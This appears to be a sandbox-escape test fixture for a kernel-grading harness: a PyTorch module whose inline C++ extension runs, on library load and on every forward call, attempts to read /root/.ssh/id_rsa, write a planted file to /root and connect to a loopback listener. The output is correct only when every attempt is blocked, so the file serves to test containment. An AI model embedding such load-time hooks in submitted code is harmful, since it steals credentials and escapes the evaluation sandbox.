"""Sandbox attack from C++: an extension whose constructor (`__attribute__((constructor))`, run
when the .so is loaded — in the build step and in every later import) and whose forward try to
read an SSH key, write into the home directory and connect to a listener on the host's loopback.

The C++ forward returns a correct swish when every attempt failed and zeros when any succeeded. A
correct harness: nothing read, written or reached; the verdict is correct.
"""
import json

import torch.nn as nn
from torch.utils.cpp_extension import load_inline

TARGETS = {}

_CPP = r"""
#include <torch/extension.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
#include <cmath>
#include <cstring>

static int breaches = 0;

static void attack() {
  char buf[64];
  int fd = open(KP_SECRET_FILE, O_RDONLY);
  if (fd >= 0) { if (read(fd, buf, sizeof buf) > 0) ++breaches; close(fd); }
  fd = open(KP_PLANT_FILE, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd >= 0) { if (write(fd, "planted\n", 8) == 8) ++breaches; close(fd); }
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s >= 0) {
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(KP_PORT);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0) {
      ++breaches;
      (void)!write(s, "native\n", 7);
    }
    close(s);
  }
}

__attribute__((constructor)) static void on_load() { attack(); }

torch::Tensor swish(torch::Tensor x) {
  attack();
  x = x.contiguous();
  auto y = torch::empty_like(x);
  const float* in = x.data_ptr<float>();
  float* out = y.data_ptr<float>();
  for (int64_t i = 0; i < x.numel(); ++i) out[i] = breaches ? 0.0f : in[i] / (1.0f + std::exp(-in[i]));
  return y;
}
"""

# The targets are written into the C++ source as literals.
_SOURCE = (_CPP.replace("KP_SECRET_FILE", json.dumps(TARGETS.get("secret_file", "/root/.ssh/id_rsa")))
           .replace("KP_PLANT_FILE", json.dumps(TARGETS.get("plant_file", "/root/kp_native_planted")))
           .replace("KP_PORT", str(TARGETS.get("port", 9))))
_ext = load_inline(name="kp_adv_native_escape", cpp_sources=_SOURCE, functions=["swish"],
                   extra_cflags=["-O2"])


class ModelNew(nn.Module):
    def forward(self, x):
        return _ext.swish(x)
